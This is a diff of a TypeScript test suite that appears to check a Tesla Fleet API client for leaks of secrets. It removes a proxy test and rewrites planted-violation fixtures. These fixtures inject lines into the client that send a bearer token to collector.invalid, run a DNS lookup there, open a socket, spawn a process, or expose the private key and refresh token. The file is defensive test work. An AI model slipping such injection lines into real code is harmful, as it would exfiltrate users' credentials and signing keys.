@@ -550,65 +550,42 @@ describe("hostile answers and surroundings", { concurrency: 2 }, () => {
     assert.deepEqual(other.got, []);
     other.close();
   });
-
-  // Node 22 and later can send everything through a proxy by itself: without the simulator, since its
-  // dispatcher would stand in front. Node 20 does not know the variable; then nothing but a name that cannot
-  // be found may happen.
-  ownerTest("NODE_USE_ENV_PROXY: refused, or unknown to this Node", {}, async (owner) => {
-    const other = await collector();
-    const proxy = `http://127.0.0.1:${other.port}`;
-    const env = {
-      NODE_OPTIONS: "",
-      NODE_USE_ENV_PROXY: "1",
-      HTTPS_PROXY: proxy,
-      HTTP_PROXY: proxy,
-      https_proxy: proxy,
-    };
-    const result = await owner.run("refresh_token", [], {
-      ...recorded(owner),
-      env: { ...env, ...recorded(owner).env },
-    });
-    assert.notEqual(result.code, 0);
-    assert.deepEqual(other.got, []);
-    const notes = takeNotes(owner).filter(({ what }) => what !== "datagram");
-    for (const { where } of notes) assert.match(where, /fleet-auth\.prd\.vn\.cloud\.tesla\.com/);
-    other.close();
-  });
 });
 
 // ---- The check itself: planted violations must be seen ----
 
+const PLANTED_AT = 'let [status, text, found] = [0, "", ""];';
 const PLANTS: [string, string, string, string, string, RegExp][] = [
   [
     "a token in a request to another host",
     "read_charge",
     "lib/tesla_fetch.ts",
-    "  let underWay = false;",
-    "  let underWay = false; void fetch(`https://collector.invalid/?${ask.bearer}`).catch(() => {});",
+    PLANTED_AT,
+    `${PLANTED_AT} void fetch(\`https://collector.invalid/?\${bearer}\`).catch(() => {});`,
     /wanted https:\/\/collector\.invalid/,
   ],
   [
     "a name look-up that carries a secret",
     "read_charge",
     "lib/tesla_fetch.ts",
-    "  let underWay = false;",
-    "  let underWay = false; (await import('node:dns')).lookup('x.collector.invalid', () => {});",
+    PLANTED_AT,
+    `${PLANTED_AT} (await import('node:dns')).lookup('x.collector.invalid', () => {});`,
     /look-up x\.collector\.invalid/,
   ],
   [
     "a plain connection",
     "refresh_token",
     "lib/tesla_fetch.ts",
-    "  let underWay = false;",
-    "  let underWay = false; (await import('node:net')).connect(9, '127.0.0.1').on('error', () => {});",
+    PLANTED_AT,
+    `${PLANTED_AT} (await import('node:net')).connect(9, '127.0.0.1').on('error', () => {});`,
     /connected to 127\.0\.0\.1:9/,
   ],
   [
     "a child process",
     "read_charge",
     "lib/tesla_fetch.ts",
-    "  let underWay = false;",
-    "  let underWay = false; (await import('node:child_process')).spawn('true');",
+    PLANTED_AT,
+    `${PLANTED_AT} (await import('node:child_process')).spawn('true');`,
     /child process true/,
   ],
   [
@@ -622,17 +599,17 @@ const PLANTS: [string, string, string, string, string, RegExp][] = [
   [
     "the private key with a command",
     "set_charge_amps",
-    "lib/signed_message.ts",
-    "[14, asks], [51, uuid]",
-    "[14, asks], [51, uuid], [99, key.getPrivateKey()]",
+    "lib/signing/signed_message.ts",
+    "[MESSAGE.infoRequest, [[1, key.getPublicKey()]]],",
+    "[MESSAGE.infoRequest, [[1, key.getPublicKey()]]], [99, key.getPrivateKey()],",
     /private key > Fleet API/,
   ],
   [
     "the refresh token to Fleet API",
     "read_charge",
     "scripts/read_charge.ts",
-    "bearer: access_token",
-    "bearer: readToken().refresh_token",
+    "path, access_token)",
+    "path, readToken().refresh_token)",
     /refresh token > Fleet API/,
   ],
 ];
